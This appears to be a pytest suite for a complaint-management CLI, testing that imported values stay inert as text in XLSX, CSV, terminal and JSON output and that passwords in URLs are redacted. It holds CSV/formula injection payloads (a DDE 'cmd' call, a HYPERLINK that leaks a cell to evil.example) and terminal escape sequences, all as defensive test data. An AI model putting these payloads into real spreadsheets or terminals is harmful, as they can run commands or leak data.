"""Hostile values stay inert in every output (the outside probe's cases of issue 13).

Products, departments, assignees and complaint texts arrive from imported files. In a
spreadsheet they are text, never a formula; on a terminal they are text, never a control
sequence; in an error message a URL never shows its password. A failed write (a missing
folder, a full disk, a damaged workbook) is an error message, not a traceback.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result

from complaintkit.display import csv_cell, escape_json_controls, formula_like, terminal_safe
from complaintkit.redact import redact_url, redact_urls
from complaintkit_cli.main import cli
from terminal_support import on_a_terminal

COMPLAINTKIT = str(Path(sys.executable).parent / "complaintkit")

# What the probe put into imported files: a DDE payload, a link that leaks a neighbouring cell,
# formulas behind + - @, and the full-width ＝ a Chinese input method turns into =.
DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
HOSTILE_PRODUCTS = (DDE, "+1+1", "-2+3", "@SUM(1+1)", "＝1+1")
HOSTILE_DEPARTMENT = LINK
HOSTILE_ASSIGNEE = "@SUM(A1:A9)*cmd|' /C calc'!A0"
HOSTILE = {*HOSTILE_PRODUCTS, HOSTILE_DEPARTMENT, HOSTILE_ASSIGNEE}

# Terminal control sequences found in complaint texts: OSC 0 (window title), OSC 52 (writes
# the clipboard), OSC 8 (a hidden link), DCS, CSI (clear screen, colour), the 8-bit CSI, a
# right-to-left override, a carriage return that overwrites the line, ESC c (reset).
ESCAPES = (
    "Bag lost\x1b]0;PWNED\x07 osc52:\x1b]52;c;ZWNobyBoaQ==\x1b\\ "
    "link:\x1b]8;;http://evil.example\x07click\x1b]8;;\x07 dcs:\x1bP1$r0m\x1b\\ "
    "csi:\x1b[2J\x1b[31mred\x1b[0m c1:\x9b2J rtl:\u202egnp.exe\u202c cr:\rOVERWRITE "
    "reset:\x1bc 行李丢了，要求赔偿"
)
TERMINAL_ACTS_ON = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def invoke(store: Path, *args: str, code: int = 0, input: str | None = None) -> Result:
    result = CliRunner().invoke(
        cli, ["--store", f"tinydb://{store}", "--create", *args], input=input
    )
    assert result.exit_code == code, result.output
    return result


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store imported from a CSV whose products, department, complainants and texts are
    hostile, with a hostile assignee given through `assign`."""
    folder = tmp_path_factory.mktemp("hostile")
    source = folder / "hostile.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(
            [
                "reference",
                "received_at",
                "channel",
                "title",
                "text",
                "product",
                "department",
                "complainant_name",
            ]
        )
        for i, product in enumerate(HOSTILE_PRODUCTS * 3):
            writer.writerow(
                [
                    f"H-{i + 1}",
                    f"2026-09-{i + 1:02d}T09:30:00+08:00",
                    "web",
                    LINK if i == 0 else f"Charged twice for order {i}",
                    ESCAPES if i == 0 else "I was charged twice, refund the duplicate charge.",
                    product,
                    HOSTILE_DEPARTMENT,
                    "@Ann",
                ]
            )
    store = folder / "store.json"
    invoke(store, "import", str(source))
    for ref in ("H-1", "H-2", "H-3"):
        invoke(store, "assign", ref, "--assignee", HOSTILE_ASSIGNEE)
    return store


# --- spreadsheets --------------------------------------------------------------------------

REPORTS = ["summary", "sla", "pareto", "trends", "kpis", "remedies", "early-warning", "8d"]


@pytest.mark.parametrize("name", REPORTS)
def test_xlsx_report_has_no_formula_cell(hostile_store: Path, tmp_path: Path, name: str) -> None:
    out = tmp_path / f"{name}.xlsx"
    invoke(hostile_store, "report", name, "--now", "2026-10-01", "--out", str(out))
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in book.read(n) for n in sheets)
    workbook = openpyxl.load_workbook(out)
    types = {c.data_type for ws in workbook.worksheets for row in ws.iter_rows() for c in row}
    assert "f" not in types and "e" not in types


def test_xlsx_writes_hostile_values_as_quote_prefixed_text(
    hostile_store: Path, tmp_path: Path
) -> None:
    shown: set[str] = set()
    for name in ("summary", "kpis", "8d"):
        out = tmp_path / f"{name}.xlsx"
        invoke(hostile_store, "report", name, "--now", "2026-10-01", "--out", str(out))
        for ws in openpyxl.load_workbook(out).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if cell.value in HOSTILE:
                        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
                        shown.add(cell.value)
    # The summary's products and departments and the KPIs' handlers: every value arrived.
    assert shown == HOSTILE


def test_xlsx_keeps_counts_as_numbers_beside_hostile_text(
    hostile_store: Path, tmp_path: Path
) -> None:
    out = tmp_path / "summary.xlsx"
    invoke(hostile_store, "report", "summary", "--out", str(out))
    by_department = openpyxl.load_workbook(out)["By department"]
    assert [(c.value, c.data_type) for c in by_department[2][:2]] == [(LINK, "s"), (15, "n")]


def test_csv_report_neutralises_formula_text_and_keeps_numbers(hostile_store: Path) -> None:
    text = invoke(hostile_store, "report", "summary", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    products = {r["item"]: r["count"] for r in rows if r["table"] == "product"}
    assert products == {"'" + p: "3" for p in HOSTILE_PRODUCTS}
    department = [r for r in rows if r["table"] == "department"]
    assert [(r["item"], r["count"]) for r in department] == [("'" + LINK, "15")]


def test_csv_raw_report_writes_text_as_it_is(hostile_store: Path) -> None:
    text = invoke(hostile_store, "report", "summary", "--format", "csv-raw").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["item"] for r in rows if r["table"] == "product"} == set(HOSTILE_PRODUCTS)


def test_csv_file_ending_chooses_the_safe_csv(hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "summary.csv"
    invoke(hostile_store, "report", "summary", "--out", str(out))
    assert f"'{DDE}" in out.read_text(encoding="utf-8")


def test_list_csv_neutralises_every_untrusted_column(hostile_store: Path) -> None:
    text = invoke(
        hostile_store, "list", "--sort", "received_at", "--format", "csv", "--limit", "1"
    ).stdout
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["product"] == "'" + DDE
    assert row["department"] == "'" + LINK
    assert row["assignee"] == "'" + HOSTILE_ASSIGNEE
    assert row["complainant_name"] == "'@***"  # masked (docs/privacy.md), still neutralised
    assert row["title"] == "'" + LINK
    assert row["reference"] == "H-1" and row["received_at"].startswith("2026-09-01")
    full = invoke(
        hostile_store,
        "list",
        *("--sort", "received_at", "--format", "csv", "--limit", "1"),
        *("--unmasked", "--reason", "audit"),
    ).stdout
    (row,) = csv.DictReader(io.StringIO(full))
    assert row["complainant_name"] == "'@Ann"


def test_list_csv_raw_is_the_documented_opt_out(hostile_store: Path) -> None:
    text = invoke(
        hostile_store, "list", "--sort", "received_at", "--format", "csv-raw", "--limit", "1"
    ).stdout
    (row,) = csv.DictReader(io.StringIO(text))
    assert (row["product"], row["department"]) == (DDE, LINK)


@pytest.mark.parametrize(
    ("text", "neutralised"),
    [
        ("=1+1", True),
        ("+1+1", True),
        ("-2+3", True),
        ("@SUM(A1)", True),
        ("\t=1+1", True),
        ("\r=1+1", True),
        ("\n=1+1", True),
        ("  =1+1", True),
        ("＝1+1", True),
        ("＋1", True),
        ("－1", True),
        ("＠x", True),
        ("+86 138 0013 8000", True),
        ("-5", False),
        ("-12.5", False),
        ("+3", False),
        ("-1e5", False),
        ("退款", False),
        ("a=b", False),
        ("", False),
    ],
)
def test_formula_like_follows_owasp_and_spares_plain_numbers(text: str, neutralised: bool) -> None:
    assert formula_like(text) is neutralised


def test_csv_cell_leaves_numbers_the_tool_writes() -> None:
    assert [csv_cell(v) for v in (-3, -0.25, None, "-3", "=A1")] == [-3, -0.25, "", "-3", "'=A1"]
    assert csv_cell("=A1", raw=True) == "=A1"


# --- terminals -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b]0;title\x07b", "ab"),  # OSC ended by BEL
        ("a\x1b]52;c;ZWNobw==\x1b\\b", "ab"),  # OSC 52 ended by ST
        ("a\x1b]8;;http://x\x07link\x1b]8;;\x07b", "alinkb"),  # OSC 8 hyperlink
        ("a\x9d0;title\x9cb", "ab"),  # 8-bit OSC and ST
        ("a\x1bP1$r0m\x1b\\b", "ab"),  # DCS
        ("a\x1bX sos \x1b\\b\x1b^pm\x1b\\c\x1b_apc\x1b\\d", "abcd"),  # SOS, PM, APC
        ("a\x1b[2J\x1b[1;31mb", "ab"),  # CSI
        ("a\x9b2Jb", "ab"),  # 8-bit CSI
        ("a\x1bcb\x1b(Bc", "abc"),  # RIS and a charset designation
        ("a\x1b]0;never ended", "a0;never ended"),  # unterminated: only the introducer goes
        ("ok\rFAKE", "ok\nFAKE"),  # a carriage return cannot overwrite the line
        ("a\r\nb", "a\nb"),
        ("x\u202eexe.txt\u202c", "xexe.txt"),  # bidi override
        ("a\x00b\x07c\x08d\x7fe\x85f", "abcdef"),  # C0, DEL, C1
        ("第一行\n\t第二行 العربية", "第一行\n\t第二行 العربية"),  # text, tabs, newlines intact
    ],
)
def test_terminal_safe_removes_every_control_sequence(text: str, shown: str) -> None:
    assert terminal_safe(text) == shown


def test_terminal_safe_on_one_line_turns_breaks_into_spaces() -> None:
    assert terminal_safe("a\nb\tc\rd", multiline=False) == "a b c d"


def test_json_escapes_what_a_terminal_acts_on_and_keeps_the_data() -> None:
    data = {"text": ESCAPES}
    text = escape_json_controls(json.dumps(data, ensure_ascii=False))
    assert not TERMINAL_ACTS_ON.search(text)
    assert json.loads(text) == data


def test_show_prints_the_text_without_control_sequences(hostile_store: Path) -> None:
    out = invoke(hostile_store, "show", "H-1").stdout
    assert not TERMINAL_ACTS_ON.search(out)
    assert "Bag lost osc52: link:click dcs: csi:red c1: rtl:gnp.exe cr:\nOVERWRITE" in out
    assert "reset: 行李丢了，要求赔偿" in out


def test_show_on_a_real_terminal_receives_no_escape(hostile_store: Path, tmp_path: Path) -> None:
    # On a terminal click strips nothing itself: this is what the probe saw.
    code, seen, err = on_a_terminal(
        ["--store", f"tinydb://{hostile_store}", "show", "H-1"], tmp_path
    )
    assert code == 0, err
    assert not TERMINAL_ACTS_ON.search(seen.replace("\r\n", "\n"))
    assert "行李丢了，要求赔偿" in seen


@pytest.mark.parametrize(
    "args",
    [
        ["list"],
        ["list", "--format", "csv"],
        ["report", "8d", "--now", "2026-10-01"],
        ["report", "summary", "--format", "markdown"],
        ["show", "H-1", "--format", "json"],
    ],
)
def test_every_listing_on_a_terminal_receives_no_escape(
    hostile_store: Path, tmp_path: Path, args: list[str]
) -> None:
    code, seen, err = on_a_terminal(["--store", f"tinydb://{hostile_store}", *args], tmp_path)
    assert code == 0, err
    assert not TERMINAL_ACTS_ON.search(seen.replace("\r\n", "\n"))


def test_list_csv_into_a_file_keeps_the_text_exactly(hostile_store: Path, tmp_path: Path) -> None:
    out = tmp_path / "list.csv"
    with out.open("wb") as handle:
        subprocess.run(
            [COMPLAINTKIT, "--store", f"tinydb://{hostile_store}", "list", "--sort", "received_at"]
            + ["--format", "csv-raw"],
            stdout=handle,
            check=True,
        )
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert rows[0]["text"] == ESCAPES.replace("\r", "\n")  # the csv module reads \r as \n


def test_rejected_rows_are_printed_without_control_sequences(tmp_path: Path) -> None:
    source = tmp_path / "bad.csv"
    source.write_text(
        "received_at,text,channel\n2026-09-01T09:00:00+08:00,late,\x1b]0;pwned\x07fax\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "bad.rejects.jsonl"
    result = invoke(tmp_path / "s.json", "import", str(source), "--rejects", str(rejects), code=1)
    assert rejects.exists()
    assert "bad.csv, line 2, field channel: unknown value" in result.stderr
    assert not TERMINAL_ACTS_ON.search(result.stderr)


def test_assign_echo_and_errors_quote_values_inertly(tmp_path: Path) -> None:
    store = tmp_path / "s.json"
    reference = invoke(store, "add", "--text", "The fee doubled without notice").stdout.split()[0]
    out = invoke(store, "assign", reference, "--assignee", "li\x1b]0;x\x07.na").stdout
    assert out == f"{reference}  → li.na\n"
    bad = invoke(store, "transition", reference, "resolve\x1b[2J", code=1)
    assert "unknown action 'resolve\\x1b[2J'" in bad.stderr
    assert not TERMINAL_ACTS_ON.search(bad.stderr)


# --- errors, not tracebacks --------------------------------------------------------------------


def _workbook(path: Path, rows: int) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["received_at", "text", "product"])
    for i in range(rows):
        sheet.append([f"2026-09-01T09:{i % 60:02d}:00+08:00", f"Screen cracked ({i})", "Nova"])
    book.save(path)


def _damage_sheet(path: Path, change: Callable[[bytes], bytes | None]) -> None:
    """Rewrite the first worksheet's XML inside the .xlsx with ``change(xml)``; None drops
    the worksheet from the file."""
    with zipfile.ZipFile(path) as book:
        members = [(item, book.read(item.filename)) for item in book.infolist()]
    with zipfile.ZipFile(path, "w") as book:
        for item, data in members:
            changed = change(data) if item.filename == "xl/worksheets/sheet1.xml" else data
            if changed is not None:
                book.writestr(item, changed)


def test_xlsx_damaged_mid_sheet_keeps_the_rows_before_and_rejects_the_rest(
    tmp_path: Path,
) -> None:
    source = tmp_path / "damaged.xlsx"
    _workbook(source, 300)

    def unclosed_row(xml: bytes) -> bytes:
        at = xml.index(b'<row r="201"')
        return xml[:at] + b'<row r="201"><c r="A201"><v>1</v></row>' + xml[at:]

    _damage_sheet(source, unclosed_row)
    rejects = tmp_path / "rejects.jsonl"
    result = invoke(tmp_path / "s.json", "import", str(source), "--rejects", str(rejects), code=1)
    (reject,) = [json.loads(line) for line in rejects.read_text().splitlines()]
    stopped = reject["row"]  # an XLSX reject counts worksheet rows
    assert "the worksheet is damaged (ParseError" in reject["reason"]
    # Every row before the one where reading stopped is stored (the damage is at row 201).
    assert 100 < stopped <= 201
    assert f"imported {stopped - 2}" in result.stdout
    listed = invoke(tmp_path / "s.json", "list", "--format", "json").stdout
    assert len(json.loads(listed)) == stopped - 2


def test_xlsx_damaged_before_its_header_is_a_clean_error(tmp_path: Path) -> None:
    source = tmp_path / "head.xlsx"
    _workbook(source, 3)
    _damage_sheet(source, lambda xml: xml.replace(b'<row r="1"', b'<row r="1"<', 1))
    result = invoke(tmp_path / "s.json", "import", str(source), code=2)
    assert "head.xlsx is not a readable .xlsx file: the worksheet is damaged" in result.stderr
    assert "(before the header row)" in result.stderr


def test_xlsx_without_its_worksheet_is_a_clean_error(tmp_path: Path) -> None:
    source = tmp_path / "empty.xlsx"
    _workbook(source, 3)
    _damage_sheet(source, lambda xml: None)
    result = invoke(tmp_path / "s.json", "import", str(source), code=2)
    assert "empty.xlsx is not a readable .xlsx file: it has no worksheet" in result.stderr


def test_report_out_into_a_missing_folder_is_refused_before_the_report_runs(
    hostile_store: Path, tmp_path: Path
) -> None:
    target = tmp_path / "nodir" / "x.html"
    result = invoke(hostile_store, "report", "summary", "--out", str(target), code=2)
    assert f"the folder {target.parent}/ does not exist" in result.stderr
    assert not target.parent.exists()


@pytest.mark.parametrize("ending", ["html", "xlsx"])
def test_report_out_on_a_full_disk_is_an_error_and_keeps_the_old_file(
    hostile_store: Path, full_disk: Path, ending: str
) -> None:
    target = full_disk / f"report.{ending}"
    result = subprocess.run(
        [COMPLAINTKIT, "--store", f"tinydb://{hostile_store}", "report", "--out", str(target)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1
    assert result.stderr == (
        f"Error: cannot write {target}: No space left on device "
        "(a file already there is left as it was)\n"
    )
    assert sorted(p.name for p in full_disk.iterdir()) == ["filler"]  # no temporary file left


@pytest.mark.parametrize("fmt", ["csv", "json", "table"])
def test_list_into_a_file_on_a_full_disk_is_an_error(
    hostile_store: Path, full_disk: Path, fmt: str
) -> None:
    with (full_disk / "list.out").open("wb") as handle:
        result = subprocess.run(
            [COMPLAINTKIT, "--store", f"tinydb://{hostile_store}", "list", "--format", fmt],
            stdout=handle,
            stderr=subprocess.PIPE,
            text=True,
            check=False,
        )
    assert result.returncode == 1
    assert result.stderr == "Error: cannot write the output: No space left on device\n"


def test_output_to_dev_full_is_an_error_for_text_and_binary(hostile_store: Path) -> None:
    for args in (["list", "--format", "csv"], ["report", "--format", "xlsx"]):
        with open("/dev/full", "wb") as full:
            result = subprocess.run(
                [COMPLAINTKIT, "--store", f"tinydb://{hostile_store}", *args],
                stdout=full,
                stderr=subprocess.PIPE,
                text=True,
                check=False,
            )
        assert (result.returncode, result.stderr) == (
            1,
            "Error: cannot write the output: No space left on device\n",
        )


# --- secrets -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("ftp://u:PASSWORD@host/x", "ftp://u:***@host/x"),
        (
            "postgresql://app:s3cr3t@db.example.cn:5432/ck?sslmode=require",
            "postgresql://app:***@db.example.cn:5432/ck?sslmode=require",
        ),
        ("mysql://u:pa/ss@w@host/db", "mysql://u:***@host/db"),  # unencoded / and @
        (
            "https://oapi.dingtalk.com/robot/send?access_token=abc123&x=1",
            "https://oapi.dingtalk.com/robot/send?access_token=***&x=1",
        ),
        ("https://h/hook?sign=s&api_key=k#top", "https://h/hook?sign=***&api_key=***#top"),
        ("u:PASSWORD@host", "u:***@host"),
        ("postgresql://postgres@127.0.0.1/test", "postgresql://postgres@127.0.0.1/test"),
        ("https://mastodon.social/@user", "https://mastodon.social/@user"),
        ("https://h/x?to=a@b.c", "https://h/x?to=a@b.c"),
        ("tinydb:///srv/complaints.json", "tinydb:///srv/complaints.json"),
    ],
)
def test_redact_url_hides_passwords_and_tokens(url: str, shown: str) -> None:
    assert redact_url(url) == shown


def test_redact_urls_finds_every_url_in_a_message() -> None:
    message = "got 'ftp://u:PASSWORD@host/x', then postgresql://a:b@db/c."
    assert redact_urls(message) == "got 'ftp://u:***@host/x', then postgresql://a:***@db/c."


@pytest.mark.parametrize(
    "store",
    [
        "mysql://u:PASSWORD@host:notaport/x",
        "u:PASSWORD@host",
        "postgresql+nodriver://u:PASSWORD@h/x",
    ],
)
def test_a_store_url_error_never_shows_the_password(tmp_path: Path, store: str) -> None:
    result = CliRunner().invoke(cli, ["--store", store, "list"])
    assert result.exit_code == 2, result.output
    assert "Error:" in result.stderr and "***" in result.stderr
    assert "PASSWORD" not in result.output + result.stderr
    assert result.exception is None or isinstance(result.exception, SystemExit)


WEBHOOK_CONFIG = """
store = "tinydb://complaints.json"

[notifications.channels.ops]
type = "webhook"
url = "{url}"

[[notifications.rules]]
name = "ops"
event = "received"
channels = ["ops"]
recipients = ["department"]
"""


def test_a_notification_config_error_masks_the_url(tmp_path: Path) -> None:
    config = tmp_path / "complaintkit.toml"
    config.write_text(WEBHOOK_CONFIG.format(url="ftp://u:PASSWORD@hooks.cn/x"), encoding="utf-8")
    result = subprocess.run(
        [COMPLAINTKIT, "--config", str(config), "--create", "add", "--text", "late delivery"],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        check=False,
    )
    assert result.returncode == 2, result.stderr
    assert (
        "ops.url: must be an http:// or https:// URL, got 'ftp://u:***@hooks.cn/x'" in result.stderr
    )
    assert "PASSWORD" not in result.stdout + result.stderr


def test_a_webhook_description_shows_the_host_only() -> None:
    from complaintkit_notify.channels import WebhookChannel

    table = {"type": "webhook", "url": "https://u:PASSWORD@hooks.cn:8443/h"}
    hook = WebhookChannel("ops", "complaintkit.toml", table)
    assert hook.description == "signed JSON POST to hooks.cn:8443"


def test_the_shared_record_writer_keeps_hostile_text_inert_in_every_format() -> None:
    from complaintkit.display import write_records

    columns = [("reference", "reference"), ("product", "product"), ("count", "count")]
    records = [
        {"reference": "R-1", "product": "=cmd|' /C calc'!A0", "count": 3},
        {"reference": "R-2", "product": "kettle\x1b]0;pwned\x07", "count": -12},
    ]
    csv_out = io.StringIO()
    assert write_records(csv_out, "csv", columns, records) == 2
    rows = list(csv.reader(io.StringIO(csv_out.getvalue())))
    assert rows[0] == ["reference", "product", "count"]
    assert rows[1] == ["R-1", "'=cmd|' /C calc'!A0", "3"]  # text neutralised, number kept
    assert rows[2][2] == "-12"
    raw = io.StringIO()
    write_records(raw, "csv-raw", columns, records)
    assert list(csv.reader(io.StringIO(raw.getvalue())))[1][1] == "=cmd|' /C calc'!A0"
    table = io.StringIO()
    write_records(table, "table", columns, records)
    assert not TERMINAL_ACTS_ON.search(table.getvalue()) and "kettle" in table.getvalue()
    lines = io.StringIO()
    write_records(lines, "jsonl", columns, records)
    first, second = (json.loads(line) for line in lines.getvalue().splitlines())
    assert first["count"] == 3
    assert second["product"] == "kettle\x1b]0;pwned\x07"  # lossless, yet escaped on the wire
    assert "\x1b" not in lines.getvalue() and "\x07" not in lines.getvalue()
